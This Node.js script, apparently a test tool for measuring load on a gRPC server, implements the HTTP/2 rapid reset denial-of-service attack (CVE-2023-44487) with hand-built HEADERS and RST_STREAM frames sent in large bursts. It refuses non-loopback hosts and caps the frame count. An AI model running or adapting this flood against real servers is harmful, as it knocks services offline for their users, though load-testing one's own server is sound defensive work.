#!/usr/bin/env node
// HTTP/2 rapid reset (CVE-2023-44487) against a gRPC server on loopback, to
// measure what it costs the server. Opens one plaintext HTTP/2 connection
// (prior knowledge, as gRPC clients do) and writes COUNT pairs of a HEADERS
// frame starting a call and an RST_STREAM(CANCEL) ending it, in one burst,
// then reads what the server answers until it goes quiet or closes.
//
// The frames are built by hand: Node's http2 module (nghttp2) drops a
// request's HEADERS when it is cancelled before being sent, so it never
// produces the attack's wire pattern.
//
// Usage: node tools/h2_rapid_reset.mjs --port=PORT [--host=127.0.0.1]
//          [--count=20000] [--connections=1]
//          [--path=/chat.v1.ChatService/Chat] [--quiet_ms=1000]
// Prints one JSON line: what was sent and what came back. Loopback only;
// COUNT is bounded (at most 1,000,000 per connection).

import net from 'node:net';

const args = Object.fromEntries(
  process.argv.slice(2).map((a) => {
    const m = /^--([^=]+)=(.*)$/.exec(a);
    if (!m) {
      console.error(`bad argument ${a}`);
      process.exit(2);
    }
    return [m[1], m[2]];
  }),
);
const host = args.host ?? '127.0.0.1';
const port = Number(args.port);
const count = Number(args.count ?? 20000);
const connections = Number(args.connections ?? 1);
const path = args.path ?? '/chat.v1.ChatService/Chat';
const quietMs = Number(args.quiet_ms ?? 1000);

if (!['127.0.0.1', 'localhost', '::1'].includes(host)) {
  console.error('--host must be loopback (127.0.0.1, localhost, ::1)');
  process.exit(2);
}
if (!(port > 0 && port < 65536)) {
  console.error('--port must be 1 to 65535');
  process.exit(2);
}
if (!(Number.isInteger(count) && count >= 1 && count <= 1_000_000)) {
  console.error('--count must be 1 to 1000000');
  process.exit(2);
}
if (!(Number.isInteger(connections) && connections >= 1 && connections <= 16)) {
  console.error('--connections must be 1 to 16');
  process.exit(2);
}

const FRAME = { DATA: 0, HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, PING: 6, GOAWAY: 7, WINDOW_UPDATE: 8 };
const CANCEL = 8;

function frame(type, flags, streamId, payload) {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([header, payload]);
}

// HPACK: indexed fields from the static table, literals without indexing
// and without Huffman coding (RFC 7541 §6.1, §6.2.2).
function literal(nameIndexOrName, value) {
  const v = Buffer.from(value);
  if (typeof nameIndexOrName === 'number') {
    return Buffer.concat([Buffer.from([nameIndexOrName, v.length]), v]);
  }
  const n = Buffer.from(nameIndexOrName);
  return Buffer.concat([Buffer.from([0x00, n.length]), n, Buffer.from([v.length]), v]);
}
const headerBlock = Buffer.concat([
  Buffer.from([0x83, 0x86]), // :method POST, :scheme http
  literal(0x04, path), // :path
  literal(0x01, `${host}:${port}`), // :authority
  literal('content-type', 'application/grpc'),
  literal('te', 'trailers'),
]);
const END_HEADERS = 0x4;
const rst = Buffer.alloc(4);
rst.writeUInt32BE(CANCEL);

function flood() {
  const parts = [
    Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
    frame(FRAME.SETTINGS, 0, 0, Buffer.alloc(0)),
  ];
  for (let i = 0; i < count; i++) {
    const id = 1 + 2 * i;
    parts.push(frame(FRAME.HEADERS, END_HEADERS, id, headerBlock));
    parts.push(frame(FRAME.RST_STREAM, 0, id, rst));
  }
  return Buffer.concat(parts);
}

function run() {
  return new Promise((resolve) => {
    const payload = flood();
    const received = { frames: {}, goaway_error: null, bytes: 0 };
    const started = process.hrtime.bigint();
    let sentMs = null;
    let pending = Buffer.alloc(0);
    let timer = null;
    const socket = net.connect({ host, port });
    const finish = (how) => {
      clearTimeout(timer);
      socket.destroy();
      resolve({
        sent_bytes: payload.length,
        sent_ms: sentMs,
        ended: how,
        received_bytes: received.bytes,
        received_frames: received.frames,
        goaway_error: received.goaway_error,
      });
    };
    const quiet = () => {
      clearTimeout(timer);
      timer = setTimeout(() => finish('quiet'), quietMs);
    };
    socket.on('connect', () => {
      socket.write(payload, () => {
        sentMs = Number(process.hrtime.bigint() - started) / 1e6;
        quiet();
      });
    });
    socket.on('data', (chunk) => {
      received.bytes += chunk.length;
      pending = Buffer.concat([pending, chunk]);
      while (pending.length >= 9) {
        const len = pending.readUIntBE(0, 3);
        if (pending.length < 9 + len) break;
        const type = pending[3];
        const flags = pending[4];
        const name = Object.keys(FRAME).find((k) => FRAME[k] === type) ?? `type${type}`;
        received.frames[name] = (received.frames[name] ?? 0) + 1;
        if (type === FRAME.GOAWAY && len >= 8) received.goaway_error = pending.readUInt32BE(13);
        if (type === FRAME.SETTINGS && !(flags & 1)) {
          socket.write(frame(FRAME.SETTINGS, 1, 0, Buffer.alloc(0)));
        }
        pending = pending.subarray(9 + len);
      }
      if (sentMs !== null) quiet();
    });
    socket.on('error', (e) => finish(`error: ${e.code ?? e.message}`));
    socket.on('close', () => finish('closed by server'));
  });
}

const results = await Promise.all(Array.from({ length: connections }, run));
console.log(JSON.stringify({ count, connections, path, results }));
